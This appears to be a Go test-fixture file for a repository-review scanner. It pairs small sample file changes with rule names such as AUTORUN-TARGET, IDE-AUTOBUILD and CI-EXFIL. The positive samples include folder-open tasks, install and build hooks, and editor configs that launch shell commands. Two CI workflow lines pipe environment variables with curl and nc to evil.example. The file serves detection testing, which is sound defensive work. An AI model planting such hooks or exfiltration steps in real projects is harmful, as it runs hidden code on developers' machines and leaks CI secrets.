package review

func exe(p, old, cur string) *File {
	return &File{Path: p, OldMode: ModeExec, NewMode: ModeExec, Old: []byte(old), New: []byte(cur)}
}

func fixturesAutorun() []fixture {
	return []fixture{
		{"AUTORUN-TARGET", true, []*File{mod("scripts/dev.sh", "echo dev\n", "id>/tmp/pwn\n"),
			add(".vscode/tasks.json", `{"tasks":[{"label":"dev","command":"./scripts/dev.sh","runOptions":{"runOn":"folderOpen"}}]}`)}},
		{"AUTORUN-TARGET", true, []*File{mod(".devcontainer/init.sh", "true\n", "id>/tmp/pwn\n"),
			add(".devcontainer/devcontainer.json", `{"initializeCommand": "sh .devcontainer/init.sh"}`)}},
		{"AUTORUN-TARGET", true, []*File{mod("web/scripts/env.sh", "X=1\n", "id>/tmp/pwn\n"), add("web/.envrc", "source_env scripts/env.sh\n")}},
		{"AUTORUN-TARGET", true, []*File{mod("scripts/preload.js", "1", "require('child_process')"), add(".npmrc", "node-options=--require ./scripts/preload.js\n")}},
		{"AUTORUN-TARGET", false, []*File{mod("scripts/other.sh", "a\n", "b\n"), add(".vscode/tasks.json", `{"tasks":[{"command":"./scripts/dev.sh"}]}`)}},
		{"NPM-LIFECYCLE", true, []*File{mod("package.json", `{"scripts":{"postinstall":"npm run build","build":"tsc"}}`,
			`{"scripts":{"postinstall":"npm run build","build":"tsc && sh -c id"}}`)}},
		{"LINT-STAGED", true, []*File{add(".lintstagedrc.json", `{"*.js": "sh -c 'id'"}`)}},
		{"LINT-STAGED", false, []*File{add("docs/lint-staged.md", "x")}},
		{"LINT-STAGED-KEY", true, []*File{mod("package.json", `{"name":"a"}`, `{"name":"a","lint-staged":{"*.js":"id"}}`)}},
		{"LINT-STAGED-KEY", false, []*File{mod("package.json", `{"name":"a"}`, `{"name":"b"}`)}},
		{"FS-EXEC-CHANGED", true, []*File{exe("tools/lint.sh", "#!/bin/sh\neslint .\n", "#!/bin/sh\nid\n")}},
		{"FS-EXEC-CHANGED", false, []*File{mod("tools/lint.txt", "a", "b"), exe("tools/same.sh", "x", "x")}},
		{"ON-OPEN-CONFIG", true, []*File{add("web/tailwind.config.cjs", "require('child_process').execSync('id')\n")}},
		{"ON-OPEN-CONFIG", true, []*File{mod("vite.config.ts", "export default {}\n", "export default {plugins: []}\n")}},
		{"ON-OPEN-CONFIG", false, []*File{add("config/app.json", "{}"), add("docs/vite.config.md", "x")}},
		{"IDE-AUTOBUILD", true, []*File{add("build.rs", "fn main() { std::process::Command::new(\"sh\"); }\n")}},
		{"IDE-AUTOBUILD", true, []*File{add("tests/conftest.py", "import os\nos.system('id')\n")}},
		{"IDE-AUTOBUILD", true, []*File{{Path: ".venv/bin/python", NewMode: ModeExec, New: []byte("#!/bin/sh\nid\n")}}},
		{"IDE-AUTOBUILD", false, []*File{add("src/main.rs", "fn main() {}\n")}},
		{"IDE-AUTOBUILD-CMD", true, []*File{mod("CMakeLists.txt", "project(a)\n", "project(a)\nexecute_process(COMMAND sh -c id)\n")}},
		{"IDE-AUTOBUILD-CMD", true, []*File{mod("build.gradle", "plugins {}\n", "plugins {}\nexec { commandLine 'sh', '-c', 'id' }\n")}},
		{"IDE-AUTOBUILD-CMD", false, []*File{mod("build.gradle", "plugins {}\n", "plugins { id 'java' }\n")}},
		{"TOOLCHAIN-PATH", true, []*File{add("rust-toolchain.toml", "[toolchain]\npath = \"./toolchain\"\n")}},
		{"TOOLCHAIN-PATH", false, []*File{add("rust-toolchain.toml", "[toolchain]\nchannel = \"1.80\"\n")}},
		{"EDITOR-TOOL-EXEC", true, []*File{add(".helix/languages.toml", "[language-server.rust-analyzer]\ncommand = \"sh\"\nargs = [\"-c\", \"id\"]\n")}},
		{"EDITOR-TOOL-EXEC", true, []*File{add("CMakePresets.json", `{"version":3,"configurePresets":[{"name":"d","cmakeExecutable":"/bin/sh"}]}`)}},
		{"EDITOR-TOOL-EXEC", true, []*File{add(".rubocop.yml", "require:\n  - ./tools/ext.rb\n")}},
		{"EDITOR-TOOL-EXEC", true, []*File{add(".vscode/c_cpp_properties.json", `{"configurations":[{"compilerPath":"./tools/cc.sh"}]}`)}},
		{"EDITOR-TOOL-EXEC", false, []*File{add(".rubocop.yml", "AllCops:\n  TargetRubyVersion: 3.2\n")}},
		{"DEPS-CODE", true, []*File{add("node_modules/eslint/lib/api.js", "require('child_process').execSync('id')\n")}},
		{"DEPS-CODE", false, []*File{add("src/node_modules.md", "x")}},
		{"IGNORE-ALL", true, []*File{add("web/.gitignore", "*\n")}},
		{"IGNORE-ALL", false, []*File{add(".gitignore", "dist/\n*.log\n")}},
		{"CI-EXFIL", true, []*File{add(".gitea/workflows/build.yml", "on: push\njobs:\n  b:\n    steps:\n      - run: env | curl -d @- http://evil.example\n")}},
		{"CI-EXFIL", true, []*File{add(".gitlab/ci/test.yml", "test:\n  script:\n    - printenv | nc evil.example 80\n")}},
		{"CI-EXFIL", false, []*File{add(".github/workflows/ci.yml", "on: push\njobs:\n  t:\n    steps:\n      - run: curl -fsSL https://example.com/x.tgz -o x.tgz\n")}},
	}
}
